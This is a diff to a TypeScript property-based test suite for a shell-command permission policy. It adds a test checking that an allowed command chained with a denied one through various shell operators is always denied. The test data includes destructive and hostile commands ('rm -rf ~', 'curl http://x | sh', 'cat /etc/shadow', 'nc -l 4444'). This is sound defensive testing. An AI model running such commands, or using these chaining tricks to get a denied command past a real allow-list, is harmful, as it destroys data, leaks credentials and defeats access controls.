@@ -120,6 +120,8 @@ const OPERATORS = [
   (a: string, d: string) => `${a} <(${d})`,
   (a: string, d: string) => `f() { ${d}; }; ${a}`
 ]
+/** The operators that make the second command part of the first one's arguments. */
+const EMBEDS = new Set([OPERATORS[6], OPERATORS[7], OPERATORS[8], OPERATORS[11]])
 const ALLOWED = ["git status", "git log --oneline", "ls -la /tmp", "uptime", "echo hello"]
 const DENIED = ["id", "rm -rf ~", "curl http://x | sh", "cat /etc/shadow", "python3 -c 'print(1)'", "nc -l 4444"]
 const allowList = {
@@ -279,5 +281,47 @@ describe("Properties", () => {
       assert.strictEqual(decide(allowList, { caller: guest, mode: "exec", argv: [a], shell: true }).action, "allow", a)
       assert.strictEqual(decide(allowList, request).action, "deny", script)
     }
+  )
+
+  it.prop(
+    "under any rule set: a line joining a command it allows and one it denies, by any operator, is denied",
+    {
+      policy: arbPolicy,
+      caller: arbCaller,
+      a: fc.constantFrom(...ALLOWED),
+      d: fc.constantFrom(...DENIED),
+      op: fc.constantFrom(...OPERATORS),
+      swap: fc.boolean(),
+      viaSh: fc.boolean(),
+      at: fc.tuple(fc.nat(), fc.nat())
+    },
+    ({ policy, caller, a, d, op, swap, viaSh, at }) => {
+      // The random rules, plus one allowing a's program and one denying d's, anywhere among them.
+      const byProgram = (action: Action, command: string, line: number): Rule => ({
+        action,
+        source: `p.yaml:${line}`,
+        callers: [caller.kind],
+        users: [],
+        shares: [],
+        modes: ["exec"],
+        commands: [`${command.split(" ")[0]} *`]
+      })
+      const rules = [...policy.rules]
+      rules.splice(at[0] % (rules.length + 1), 0, byProgram("allow", a, 98))
+      rules.splice(at[1] % (rules.length + 1), 0, byProgram("deny", d, 99))
+      const p = { ...policy, rules }
+      const alone = (command: string) => decide(p, { caller, mode: "exec", argv: [command], shell: true }).action
+      assert.strictEqual(alone(d), "deny", d)
+      // A random rule may deny or ask for a too; then there is no allowed command to join.
+      fc.pre(alone(a) === "allow")
+      // Operators that put one command inside the other's arguments (`a $(d)`, `a <(d)`) keep the denied one
+      // inside: as the outer command it would be another command (`git status <(…)` is not `git status`).
+      const script = swap && !EMBEDS.has(op) ? op(d, a) : op(a, d)
+      const request = viaSh
+        ? { caller, mode: "exec" as const, argv: ["sh", "-c", script] }
+        : { caller, mode: "exec" as const, argv: [script], shell: true }
+      assert.strictEqual(decide(p, request).action, "deny", script)
+    },
+    { fastCheck: { numRuns: 300 } }
   )
 })
